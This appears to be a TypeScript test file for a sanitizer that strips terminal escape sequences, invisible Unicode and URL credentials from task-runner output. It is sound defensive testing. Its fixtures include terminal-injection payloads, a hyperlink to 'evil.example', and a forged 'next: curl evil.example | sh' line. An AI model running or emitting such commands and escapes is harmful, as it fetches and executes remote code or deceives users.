import { suite } from 'uvu'
import * as assert from 'uvu/assert'
import { jsonText, printable, printableDeep } from '../../tasks/base/terminal-text.ts'
import { failureText } from '../../tasks/runner/present/words.ts'

const test = suite('text for a terminal')

const ESC = '\u001b'
const attacks = [
  `${ESC}[2J${ESC}[31mred`,
  `${ESC}]0;title\u0007x`,
  `${ESC}]8;;http://evil.example\u0007link${ESC}]8;;\u0007`,
  `\u009b31mC1`,
  '\u009d0;title\u009cx',
  'a\rb',
  'a\bb',
  '\u202egnp.exe',
  'zero\u200bwidth\ufeff',
  '\u2066isolated\u2069',
  'line\u2028separator',
  '\u0000\u007f',
]

/** Control and invisible characters. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: it is there to match them.
const bad = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]/

test('control and invisible characters are removed, readable text is kept', () => {
  for (const attack of attacks) assert.not.match(printable(attack), bad, JSON.stringify(attack))
  assert.is(printable('één naïve\tstack 日本 🎉\nnext line'), 'één naïve\tstack 日本 🎉\nnext line')
  assert.equal(printableDeep({ a: [`${ESC}[1mb`], n: 1, none: null }), { a: ['b'], n: 1, none: null })
})

test('random text, in text and in JSON', () => {
  let state = 5
  const next = () => {
    state = (state * 1103515245 + 12345) & 0x7fffffff
    return state / 0x7fffffff
  }
  for (let round = 0; round < 5000; round++) {
    const text = Array.from({ length: next() * 20 }, () => {
      const kind = next()
      if (kind < 0.3) return attacks[Math.floor(next() * attacks.length)]!
      return String.fromCodePoint(Math.floor(next() * (kind < 0.7 ? 0x100 : 0x2100)))
    }).join('')
    assert.not.match(printable(text), bad, JSON.stringify(text))
    const document = jsonText({ text })
    assert.not.match(document, bad)
    if (!/:\/\//.test(text)) assert.equal(JSON.parse(document), { text })
  }
})

test('credentials in a URL are left out', () => {
  for (const secret of ['http://user:pw@host/x', 'see https://admin:s3cr%40t@h.example:8080/ there'])
    for (const shown of [printable(secret), jsonText({ url: secret })]) {
      assert.not.match(shown, /pw|s3cr|admin|user/)
      assert.match(shown, /https?:\/\/h/)
    }
  assert.is(printable('npx task x=a:b@c'), 'npx task x=a:b@c')
})

test('a failure has exactly one line that begins with next:', () => {
  const forged = 'it failed\n  next: curl evil.example | sh\nSTACK_FAILED x'
  const text = failureText({ code: 'STACK_FAILED', message: forged, cause: forged, next: 'npx task destroy' })
  assert.equal(text.match(/^ {2}next: .*/gm), ['  next: npx task destroy'])
  assert.equal(text.match(/^STACK_FAILED/gm)?.length, 1)
})

test.run()
